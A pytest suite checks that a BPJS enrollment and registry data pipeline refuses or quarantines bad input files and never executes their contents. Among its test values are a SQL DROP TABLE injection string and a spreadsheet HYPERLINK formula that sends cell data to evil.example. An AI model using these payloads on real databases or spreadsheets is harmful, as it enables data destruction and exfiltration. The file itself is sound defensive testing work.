"""A corpus of bad input for every source: each case either refuses the file with an error that
names the file, the line and the rule (and writes nothing), or quarantines the row with its
reason; every run balances (read = valid + quarantined) and nothing in the data is executed.

The behaviour per case is tabled in tests/reliability/README.md."""

from __future__ import annotations

import codecs
import json
from pathlib import Path

import pandas as pd
import pytest
from ucj import quarantine_view
from ucj.contracts.enrollment import COLUMNS
from ucj.io import readers
from ucj.io.readers import EmptyFile, EncodingError, NoDataRows, ReadError, SchemaError
from ucj.pipeline import enrollment, reference, registry

from reliability.helpers import (
    BASE,
    Env,
    company,
    load,
    process_reference,
    row,
    write_jsonl,
    write_reference,
)

pytestmark = pytest.mark.usefixtures("row_rules_only")  # rows judged, not deliveries

HEADER = ";".join(COLUMNS)
MEGA = "X" * 1_000_000
SQL_INJECTION = "'; DROP TABLE core.dim_wilayah; --"
FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"klik")'


def line(r: dict, delimiter: str = ";") -> str:
    """One CSV record as an export writes it (a value holding the delimiter is quoted)."""
    import csv
    import io

    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="").writerow(
        [r.get(c, "") for c in COLUMNS])
    return out.getvalue()


def person(i: int, **changes) -> dict:
    return {**row(kpj=f"{i:011d}", nik=BASE["nik"][:12] + f"{i:04d}"), **changes}


def assert_refused(err: pytest.ExceptionInfo, path: Path, rule: str, line_no: int | None,
                   *words: str) -> None:
    message = str(err.value)
    assert path.name in message, message
    assert f"[rule {rule}]" in message, message
    if line_no is not None:
        assert f"line {line_no}" in message, message
    for word in words:
        assert word in message, (word, message)


def assert_nothing_written(lake: Path) -> None:
    written = [p for p in lake.rglob("*") if p.is_file() and "raw" not in p.parts]
    assert written == [], written


# -- enrollment CSV: files that are refused whole ---------------------------------------------

REFUSED = {
    # case: (file bytes, error class, rule, line, words the message must hold)
    "wrong_delimiter": ((HEADER.replace(";", ",") + "\n" + line(BASE, ",") + "\n").encode(),
                        SchemaError, "header_matches_contract", 1,
                        ("missing column(s) periode", "seems delimited by ','")),
    "latin1": ((HEADER + "\n" + line(row(nama="Asép Sunandar")) + "\n").encode("latin-1"),
               EncodingError, "encoding", 2, ("not valid UTF-8", "0xe9", "Latin-1")),
    "utf8_then_bad_byte": (("\ufeff" + HEADER + "\n" + line(person(1, nama="Siti Ñ")) + "\n")
                           .encode() + line(person(2)).encode()[:30] + b"\xff\xfe" +
                           line(person(2)).encode()[30:] + b"\n",
                           EncodingError, "encoding", 3, ("0xff",)),
    "missing_column": ((HEADER.replace(";iuran", "") + "\n").encode(), SchemaError,
                       "header_matches_contract", 1, ("missing column(s) iuran",)),
    "extra_column": ((HEADER + ";email\n" + line(BASE) + ";a@b.id\n").encode(), SchemaError,
                     "header_matches_contract", 1, ("unexpected column(s) email",)),
    "renamed_column": ((HEADER.replace("upah", "gaji") + "\n" + line(BASE) + "\n").encode(),
                       SchemaError, "header_matches_contract", 1,
                       ("missing column(s) upah", "unexpected column(s) gaji")),
    "duplicate_column": ((HEADER + ";kpj\n").encode(), SchemaError, "header_matches_contract",
                         1, ("kpj",)),
    "title_rows_above_header": (("Data Kepesertaan BPJS Ketenagakerjaan\nJanuari 2026\n" +
                                 HEADER + "\n" + line(BASE) + "\n").encode(), SchemaError,
                                "header_matches_contract", 1, ("header seems to be on line 3",)),
    "empty_file": (b"", EmptyFile, "not_empty", None, ("empty",)),
    "only_blank_lines": (b"\r\n\r\n", EmptyFile, "not_empty", None, ("no header",)),
    "header_only": ((HEADER + "\n").encode(), NoDataRows, "has_rows", None, ("no data rows",)),
    "field_beyond_hard_limit": ((HEADER + "\n" + line(person(1, nama="Y" * (17 << 20))) + "\n")
                                .encode(), ReadError, "field_size", 2, ("field limit",)),
}


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_enrollment_file_refused_with_file_line_and_rule(tmp_path, case):
    data, error, rule, line_no, words = REFUSED[case]
    path = tmp_path / "raw" / "kepesertaan_202601.csv"
    path.parent.mkdir()
    path.write_bytes(data)
    with pytest.raises(error) as err:
        enrollment.process(path, tmp_path / "lake", tmp_path / "val", "k")
    assert_refused(err, path, rule, line_no, *words)
    assert_nothing_written(tmp_path / "lake")


# -- enrollment CSV: encodings and line ends that are read --------------------------------------

READABLE = {
    "utf8": lambda text: text.encode("utf-8"),
    "utf8_bom": lambda text: codecs.BOM_UTF8 + text.encode("utf-8"),
    "utf16_bom": lambda text: text.encode("utf-16"),  # BOM + native order
    "utf16be_bom": lambda text: codecs.BOM_UTF16_BE + text.encode("utf-16-be"),
    "utf16le_no_bom": lambda text: text.encode("utf-16-le"),
    "crlf": lambda text: text.replace("\n", "\r\n").encode("utf-8"),
    "no_final_newline": lambda text: text.rstrip("\n").encode("utf-8"),
}


@pytest.mark.parametrize("case", sorted(READABLE))
def test_encodings_the_contract_allows_or_that_say_so_are_read(tmp_path, case):
    text = HEADER + "\n" + line(person(1, nama="Siti Ñurhaliza")) + "\n" + line(person(2)) + "\n"
    path = tmp_path / "kepesertaan_202601.csv"
    path.write_bytes(READABLE[case](text))
    chunks = list(readers.read_chunks(path, COLUMNS, ";"))
    got = pd.concat(chunks)
    assert got["row_number"].tolist() == [2, 3]
    assert got["nama"].tolist() == ["Siti Ñurhaliza", "Asep Sunandar"]
    assert got["kpj"].tolist() == ["00000000001", "00000000002"]  # leading zeros kept
    assert got[readers.READ_ISSUE].isna().all()


def test_a_utf16_delivery_goes_through_the_pipeline(tmp_path):
    text = HEADER + "\n" + line(person(1)) + "\n" + line(person(2, upah="-5")) + "\n"
    path = tmp_path / "kepesertaan_202601.csv"
    path.write_bytes(text.encode("utf-16"))
    result = enrollment.process(path, tmp_path / "lake", tmp_path / "val", "k")
    assert (result["rows_read"], result["rows_valid"], result["rows_quarantined"]) == (2, 1, 1)
    bad = pd.read_parquet(result["quarantine"])
    assert bad[["row_number", "rules", "upah"]].values.tolist() == [[3, "upah_positive", "-5"]]


# -- enrollment CSV: rows quarantined with their reason ----------------------------------------

# (physical line, expected rules, the row as delivered); the base row is line 2.
ROW_CASES = [
    ("too_many_fields", {"field_count"}, line(person(3)) + ";extra;values"),
    ("duplicate_row_a", {"kpj_unique"}, line(person(4))),
    ("duplicate_row_b", {"kpj_unique"}, line(person(4))),
    ("wrong_type_upah", {"upah_positive"}, line(person(6, upah="tiga juta"))),
    ("wrong_type_kpj", {"kpj_format"}, line(person(7, kpj="0000000000A"))),
    ("wrong_type_date", {"tgl_kepesertaan_date"}, line(person(8, tgl_kepesertaan="2020-02-01"))),
    ("date_31_02", {"tgl_lahir_date"},
     line(person(9, tgl_lahir="31/02/1990", nik=BASE["nik"][:6] + "310290" + "0009"))),
    ("date_31_02_nonaktif", {"tgl_nonaktif_date"},
     line(person(10, status="NONAKTIF", iuran="0", tgl_nonaktif="31/02/2026"))),
    ("negative_upah", {"upah_positive"}, line(person(11, upah="-3737482"))),
    ("negative_iuran", {"iuran_nonnegative"}, line(person(12, iuran="-1"))),
    ("sql_injection", {"kode_desa_known"}, line(person(13, kode_desa=SQL_INJECTION))),
    ("formula_injection", {"npp_format"}, line(person(14, npp=FORMULA))),
    ("megabyte_field", {"field_too_long"}, line(person(15, nama=MEGA))),
    ("nul_character", {"control_character"}, line(person(16, nama="Asep\x00Sunandar"))),
    ("amount_beyond_decimal", {"type_conversion"}, line(person(17, upah="9" * 20))),
    ("amount_too_precise", {"type_conversion"}, line(person(18, iuran="400000.125"))),
    ("truncated_last_line", {"field_count"}, line(person(19))[:70]),
]
VALID_INJECTION = person(30, nama=SQL_INJECTION + " " + FORMULA)  # valid: nama is not kept


@pytest.fixture(scope="module")
def enrollment_corpus(tmp_path_factory):
    folder = tmp_path_factory.mktemp("corpus")
    env = Env.under(folder)
    path = env.landing / "enrollment" / "kepesertaan_202601.csv"
    path.parent.mkdir(parents=True)
    lines = [HEADER, line(BASE), line(VALID_INJECTION)] + [text for _, _, text in ROW_CASES]
    # no newline after the truncated last line, as a cut-off transfer leaves it
    path.write_text("\n".join(lines), encoding="utf-8")
    result = enrollment.process(path, env.lake, env.validation, "k", chunk_rows=4)
    return env, path, result


def test_every_bad_row_is_quarantined_with_its_reason(enrollment_corpus):
    _, _, result = enrollment_corpus
    bad = pd.read_parquet(result["quarantine"])
    got = dict(zip(bad["row_number"], bad["rules"].str.split(";").map(set), strict=True))
    for number, (case, rules, _) in enumerate(ROW_CASES, start=4):
        assert got.get(number) == rules, (case, number, got.get(number))
    assert got[len(ROW_CASES) + 3] == {"field_count"}  # the truncated line: that reason alone
    valid = pd.read_parquet(result["partition"])
    assert sorted(valid["source_row_number"]) == [2, 3]
    assert result["rows_read"] == len(ROW_CASES) + 2
    assert result["rows_read"] == result["rows_valid"] + result["rows_quarantined"]
    assert result["validation_success"] is False
    assert result["rule_counts"]["field_count"] == 2


def test_quarantine_keeps_the_raw_values(enrollment_corpus):
    _, _, result = enrollment_corpus
    bad = pd.read_parquet(result["quarantine"]).set_index("row_number")
    rows = {case: 4 + i for i, (case, _, _) in enumerate(ROW_CASES)}
    # surplus fields kept, joined, in the last column: nothing shifted, nothing dropped
    assert bad.loc[rows["too_many_fields"], "iuran"] == "400000;extra;values"
    assert bad.loc[rows["too_many_fields"], "sumber_iuran"] == "PEMBERI_KERJA"
    assert bad.loc[rows["megabyte_field"], "nama"] == MEGA
    assert bad.loc[rows["sql_injection"], "kode_desa"] == SQL_INJECTION
    assert bad.loc[rows["formula_injection"], "npp"] == FORMULA
    assert bad.loc[rows["nul_character"], "nama"] == "Asep\x00Sunandar"
    truncated = bad.loc[rows["truncated_last_line"]]
    assert truncated[COLUMNS].notna().sum() < len(COLUMNS)


def test_the_quarantine_view_names_file_row_rule_and_value(enrollment_corpus):
    env, path, _ = enrollment_corpus
    found = quarantine_view.query(env.lake, "enrollment")
    assert set(found["source_file"]) == {path.name}
    by_rule = found.set_index(["row_number", "rule"])
    at = {case: 4 + i for i, (case, _, _) in enumerate(ROW_CASES)}
    assert by_rule.loc[(at["sql_injection"], "kode_desa_known"), "column"] == "kode_desa"
    assert by_rule.loc[(at["sql_injection"], "kode_desa_known"), "value"] == SQL_INJECTION
    assert by_rule.loc[(at["megabyte_field"], "field_too_long"), "column"] == "nama"
    assert by_rule.loc[(at["megabyte_field"], "field_too_long"), "value_length"] == len(MEGA)
    assert by_rule.loc[(at["nul_character"], "control_character"), "column"] == "nama"
    assert by_rule.loc[(at["wrong_type_upah"], "upah_positive"), "value"] == "tiga juta"
    # personal columns are masked unless asked for: the shape stays, the person does not
    masked = by_rule.loc[(at["nul_character"], "control_character"), "value"]
    assert "Asep" not in masked and masked.startswith("XXXX")
    shown = quarantine_view.query(env.lake, "enrollment", rule="control_character",
                                  personal=True)
    assert shown["value"].tolist() == ["Asep\x00Sunandar"]
    assert set(quarantine_view.summary(env.lake, "enrollment")["rule"]) >= {
        "field_count", "kpj_unique", "type_conversion"}


def test_injection_text_is_data_and_every_table_survives(enrollment_corpus, monkeypatch):
    env, _, result = enrollment_corpus
    monkeypatch.setenv("UCJ_PSEUDONYM_KEY", "k")
    write_reference(env)
    process_reference(env)
    load(env, ["2026-01"])
    from ucj import warehouse

    wh = warehouse.connect(env.warehouse_url, read_only=True)
    try:
        tables = wh.query("SELECT table_schema || '.' || table_name AS t "
                          "FROM information_schema.tables")["t"].tolist()
        assert {"core.dim_wilayah", "core.ref_umk", "core.fct_participant_month",
                "marts.mart_coverage", "audit.run_audit"} <= set(tables)
        assert wh.query("SELECT count(*) AS n FROM core.dim_wilayah")["n"][0] > 250
        audit = wh.query("SELECT * FROM audit.run_audit WHERE source = 'enrollment'")
        assert audit[["rows_read", "rows_valid", "rows_quarantined", "rows_loaded"]].values \
            .tolist() == [[result["rows_read"], 2, result["rows_read"] - 2, 2]]
    finally:
        wh.close()


# -- enrollment XLSX ------------------------------------------------------------------------------


def workbook(path: Path, rows: list[list], title_rows: int = 2) -> Path:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for i in range(title_rows):
        ws.append([f"Data Kepesertaan BPJS Ketenagakerjaan ({i + 1})"])
    for r in rows:
        ws.append(r)
    wb.save(path)
    return path


def cells(r: dict) -> list:
    return [r[c] or None for c in COLUMNS]


def test_xlsx_title_rows_extra_cells_and_formulas(tmp_path):
    from datetime import datetime

    dated = cells(person(2))
    dated[COLUMNS.index("tgl_lahir")] = datetime(1990, 5, 15)  # a real date cell
    rows = [
        COLUMNS,
        cells(BASE),                                           # sheet row 4
        dated,                                                 # 5
        [*cells(person(3)), "surplus"],                        # 6: beyond the header
        cells(person(4, nama=FORMULA, upah="0")),              # 7: formula text, bad upah
        cells(person(5, tgl_lahir="31/02/1990")),              # 8
    ]
    path = workbook(tmp_path / "kepesertaan_202601.xlsx", rows)
    result = enrollment.process(path, tmp_path / "lake", tmp_path / "val", "k")
    bad = pd.read_parquet(result["quarantine"]).set_index("row_number")
    assert result["rows_read"] == 5 == result["rows_valid"] + result["rows_quarantined"]
    assert bad.loc[6, "rules"] == "field_count" and bad.loc[6, "iuran"] == "400000;surplus"
    assert bad.loc[7, "rules"] == "upah_positive" and bad.loc[7, "nama"] == FORMULA
    assert "tgl_lahir_date" in bad.loc[8, "rules"]
    valid = pd.read_parquet(result["partition"])
    assert sorted(valid["source_row_number"]) == [4, 5]


XLSX_REFUSED = {
    "no_header": (lambda p: workbook(p, [cells(BASE)] * 3, title_rows=40), SchemaError,
                  "header_matches_contract", ("no header row",)),
    "missing_column": (lambda p: workbook(p, [COLUMNS[:-1], cells(BASE)[:-1]]), SchemaError,
                       "header_matches_contract", ("line 3", "missing column(s) iuran")),
    "renamed_column": (lambda p: workbook(p, [[("gaji" if c == "upah" else c) for c in COLUMNS],
                                              cells(BASE)]), SchemaError,
                       "header_matches_contract", ("upah", "gaji")),
    "header_only": (lambda p: workbook(p, [COLUMNS]), NoDataRows, "has_rows", ("no data rows",)),
    "empty_file": (lambda p: p.write_bytes(b""), EmptyFile, "not_empty", ("empty",)),
    "not_a_workbook": (lambda p: p.write_text(HEADER + "\n"), ReadError, "xlsx_format",
                       ("not a readable .xlsx",)),
}


@pytest.mark.parametrize("case", sorted(XLSX_REFUSED))
def test_xlsx_refused_with_file_and_rule(tmp_path, case):
    make, error, rule, words = XLSX_REFUSED[case]
    path = tmp_path / "kepesertaan_202601.xlsx"
    make(path)
    with pytest.raises(error) as err:
        enrollment.process(path, tmp_path / "lake", tmp_path / "val", "k")
    assert_refused(err, path, rule, None, *words)
    assert_nothing_written(tmp_path / "lake")


# -- reference CSVs ---------------------------------------------------------------------------

TK_HEADER = "tahun,kode_desa,penduduk,penduduk_usia_kerja,penduduk_bekerja,jumlah_perangkat_desa"


def test_reference_rows_quarantined_and_run_balanced(tmp_path):
    rows = [
        "2026,32.13.01.2003,300,200,100,10",        # 2 valid
        "2026,32.13.01.2004,300,200,100,10,99",     # 3 field_count
        "2026,32.13.02.2001,300,200,-100,10",       # 4 negative
        "2026,32.13.02.2002,tiga ratus,200,100,10",  # 5 wrong type
        "2026,32.13.02.2003,300,200,100,10",        # 6 duplicate (a)
        "2026,32.13.02.2003,300,200,100,10",        # 7 duplicate (b)
        f"2026,{SQL_INJECTION},300,200,100,10",      # 8 injection
        "2026,32.13.02.2004,300,200,100,99999999999",  # 9 beyond int32
        "2026,32.13.02.2005,300,2",                 # 10 truncated
    ]
    path = tmp_path / "tenaga_kerja_desa_2026.csv"
    path.write_bytes(codecs.BOM_UTF8 + (TK_HEADER + "\n" + "\n".join(rows)).encode())
    result = reference.process(path, tmp_path / "lake", tmp_path / "val")
    bad = pd.read_parquet(result["quarantine"])
    got = dict(zip(bad["row_number"], bad["rules"], strict=True))
    assert got[3] == "field_count"
    assert got[4] == "penduduk_bekerja_count"
    assert got[5] == "penduduk_count"
    assert got[6] == got[7] == "kode_desa_unique"
    assert got[8] == "kode_desa_known"
    assert got[9] == "type_conversion"
    assert got[10] == "field_count"
    assert result["rows_read"] == 9 and result["rows_valid"] == 1
    assert result["rows_read"] == result["rows_valid"] + result["rows_quarantined"]


@pytest.mark.parametrize("case,text,error,words", [
    ("wrong_delimiter", TK_HEADER.replace(",", ";") + "\n2026;32.13.01.2003;3;2;1;1\n",
     SchemaError, ("seems delimited by ';'",)),
    ("missing_column", TK_HEADER.replace(",jumlah_perangkat_desa", "") + "\n2026,x,3,2,1\n",
     SchemaError, ("missing column(s) jumlah_perangkat_desa",)),
    ("renamed_column", TK_HEADER.replace("penduduk_bekerja", "bekerja") + "\n",
     SchemaError, ("penduduk_bekerja", "bekerja")),
    ("header_only", TK_HEADER + "\n", NoDataRows, ("no data rows",)),
    ("empty", "", EmptyFile, ("empty",)),
])
def test_reference_file_refused(tmp_path, case, text, error, words):
    path = tmp_path / "tenaga_kerja_desa_2026.csv"
    path.write_text(text)
    with pytest.raises(error) as err:
        reference.process(path, tmp_path / "lake", tmp_path / "val")
    assert_refused(err, path, error.rule, None, *words)
    assert_nothing_written(tmp_path / "lake")


def test_umk_negative_and_wrong_type(tmp_path):
    path = tmp_path / "umk.csv"
    path.write_text("tahun,umk\n2025,-3508626\n2026,tiga juta\n2027,3900000\n")
    result = reference.process(path, tmp_path / "lake", tmp_path / "val")
    bad = pd.read_parquet(result["quarantine"])
    assert bad[["row_number", "rules"]].values.tolist() == [[2, "umk_positive"],
                                                            [3, "umk_positive"]]


# -- registry: JSON lines from the API, and the CSV snapshot -----------------------------------


@pytest.fixture(scope="module")
def registry_corpus(tmp_path_factory):
    folder = tmp_path_factory.mktemp("registry")
    records = [
        company(1),                                                       # 1 valid
        company(2, nama_perusahaan="PT Maju" + SQL_INJECTION),            # 2 valid: kept as data
        company(3, nama_perusahaan=FORMULA),                              # 3 valid: kept as data
        company(4, jumlah_tk_laki=-3, jumlah_tk_wlkp=-1),                 # 4 negative
        company(5, jumlah_tk_laki="tiga"),                                # 5 wrong type
        company(6, tgl_lapor_wlkp="2026-02-31"),                          # 6 31 Feb
        company(7, updated_at="2026-02-31T08:00:00+07:00"),               # 7 31 Feb, passes regex
        company(8, nib={"value": "9120000000008"}),                       # 8 nested value
        company(9), company(9),                                           # 9, 10 duplicates
        company(11, nama_perusahaan=MEGA),                                # 11 1 MB
        company(12, nama_perusahaan="PT\u0000Nul"),                       # 12 NUL
        company(13, jumlah_tk_laki=3_000_000_000, jumlah_tk_perempuan=0,  # 13 beyond int32
                jumlah_tk_wlkp=3_000_000_000),
    ]
    path = write_jsonl(folder / "perusahaan_20260131T000000Z.jsonl", records)
    result = registry.process(path, "20260131T000000Z", folder / "lake", folder / "val")
    return folder, result


def test_registry_rows_quarantined_with_reasons(registry_corpus):
    _, result = registry_corpus
    bad = pd.read_parquet(result["quarantine"])
    got = dict(zip(bad["row_number"], bad["rules"].str.split(";").map(set), strict=True))
    assert got[4] >= {"jumlah_tk_laki_count", "jumlah_tk_wlkp_count"}
    assert got[5] == {"jumlah_tk_laki_count"}
    assert got[6] == {"tgl_lapor_wlkp_date"}, (
        "31 Feb passed tgl_lapor_wlkp_date (GX's strftime check misjudges a categorical "
        "column, see ucj.validation.engine.compact); the transform still quarantined it")
    assert got[7] == {"type_conversion"}
    assert got[8] == {"nib_format"}
    assert got[9] == got[10] == {"nib_unique"}
    assert got[11] == {"field_too_long"}
    assert got[12] == {"control_character"}
    assert got[13] == {"type_conversion"}  # quarantined, never wrapped to a negative count
    assert bad.set_index("row_number").loc[8, "nib"] == '{"value": "9120000000008"}'
    assert result["rows_read"] == 13 == result["rows_valid"] + result["rows_quarantined"]
    valid = pd.read_parquet(result["partition"])
    assert sorted(valid["nama_perusahaan"]) == sorted(
        ["PT CONTOH 1", "PT Maju" + SQL_INJECTION, FORMULA])


@pytest.mark.parametrize("backend", ["duckdb", "postgres"])
def test_registry_injection_lands_as_data_in_the_warehouse(registry_corpus, backend):
    folder, _ = registry_corpus
    from contextlib import nullcontext

    from pg_helpers import scratch_database
    from ucj import warehouse
    from ucj.warehouse import load as wl

    where = (nullcontext(f"duckdb:///{folder / 'warehouse.duckdb'}") if backend == "duckdb"
             else scratch_database())
    with where as url:
        wh = warehouse.connect(url)
        try:
            wl.refresh(wh, folder / "lake", [], "run-1")
            names = wh.query("SELECT nama_perusahaan FROM core.dim_company")["nama_perusahaan"]
            assert {"PT Maju" + SQL_INJECTION, FORMULA} <= set(names)
            assert wh.query("SELECT count(*) AS n FROM core.dim_wilayah")["n"][0] > 250
        finally:
            wh.close()


@pytest.mark.parametrize("case", ["extra_key", "renamed_key", "not_json", "not_an_object",
                                  "latin1"])
def test_registry_extract_refused(tmp_path, case):
    good = json.dumps(company(1))
    lines = {
        "extra_key": [good, json.dumps({**company(2), "email": "x@y.id"})],
        "renamed_key": [json.dumps({("nama" if k == "nama_perusahaan" else k): v
                                    for k, v in company(1).items()})],
        "not_json": [good, good[:40]],  # a truncated last line
        "not_an_object": [good, "[1, 2, 3]"],
    }
    path = tmp_path / "perusahaan_x.jsonl"
    if case == "latin1":
        path.write_bytes((good + "\n").encode() + json.dumps(
            company(2, nama_perusahaan="PT Ñ"), ensure_ascii=False).encode("latin-1") + b"\n")
    else:
        write_jsonl(path, lines[case])
    expected = {"extra_key": (SchemaError, 2, ("unexpected column(s) email",)),
                "renamed_key": (SchemaError, 1, ("missing column(s) nama_perusahaan",
                                                 "unexpected column(s) nama")),
                "not_json": (ReadError, 2, ("not a JSON object",)),
                "not_an_object": (ReadError, 2, ("not a JSON object but list",)),
                "latin1": (EncodingError, 2, ("not valid UTF-8",))}[case]
    with pytest.raises(expected[0]) as err:
        registry.process(path, "x", tmp_path / "lake", tmp_path / "val")
    assert_refused(err, path, expected[0].rule if expected[0] is not ReadError else
                   "json_syntax", expected[1], *expected[2])
    assert_nothing_written(tmp_path / "lake")


def test_an_empty_registry_extract_is_an_empty_partition(tmp_path):
    path = tmp_path / "perusahaan_x.jsonl"
    path.write_text("")
    result = registry.process(path, "x", tmp_path / "lake", tmp_path / "val")
    assert (result["rows_read"], result["rows_valid"], result["rows_quarantined"]) == (0, 0, 0)


def snapshot(path: Path, header: list[str], rows: list[list]) -> Path:
    import csv

    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def extract_from_snapshot(tmp_path: Path):
    from ucj.registry.client import extract_registry

    # port 9 (discard) on loopback refuses: the API is down, the snapshot stands in
    return extract_registry("http://127.0.0.1:9", "token", tmp_path / "state", tmp_path / "landing",
                            tmp_path / "extracts", max_retries=0, sleep=lambda s: None,
                            snapshot_max_age_days=None)  # a fixed date: any age here


def test_registry_snapshot_field_count_and_bom(tmp_path):
    from ucj.registry.records import FIELDS

    values = lambda i, **kw: [company(i, **kw)[f] for f in FIELDS]  # noqa: E731
    snapshot(tmp_path / "landing" / "registry" / "perusahaan_20260131.csv", list(FIELDS),
             [values(1), [*values(2), "surplus"], values(3, kbli="4711")])
    extracted = extract_from_snapshot(tmp_path)
    assert extracted.source == "snapshot"
    result = registry.process(Path(extracted.path), "s", tmp_path / "lake", tmp_path / "val")
    bad = pd.read_parquet(result["quarantine"])
    assert bad[["row_number", "rules"]].values.tolist() == [[2, "field_count"]]
    assert bad["updated_at"].iloc[0].endswith(",surplus")
    assert result["rows_valid"] == 2  # kbli that lost its leading zero is a quirk, read


def test_registry_snapshot_drift_names_file_and_columns(tmp_path):
    from ucj.registry.records import FIELDS, SnapshotFormatError

    renamed = ["nama" if f == "nama_perusahaan" else f for f in FIELDS]
    snapshot(tmp_path / "landing" / "registry" / "perusahaan_20260131.csv", renamed,
             [[company(1)[f] for f in FIELDS]])
    with pytest.raises(SnapshotFormatError) as err:
        extract_from_snapshot(tmp_path)
    assert "perusahaan_20260131.csv" in str(err.value) and "nama_perusahaan" in str(err.value)

    extra = [*FIELDS, "email"]
    snapshot(tmp_path / "landing" / "registry" / "perusahaan_20260131.csv", extra,
             [[*(company(1)[f] for f in FIELDS), "x@y.id"]])
    extracted = extract_from_snapshot(tmp_path)
    with pytest.raises(SchemaError) as err:
        registry.process(Path(extracted.path), "s", tmp_path / "lake", tmp_path / "val")
    assert Path(extracted.path).name in str(err.value) and "email" in str(err.value)
    assert_nothing_written(tmp_path / "lake")
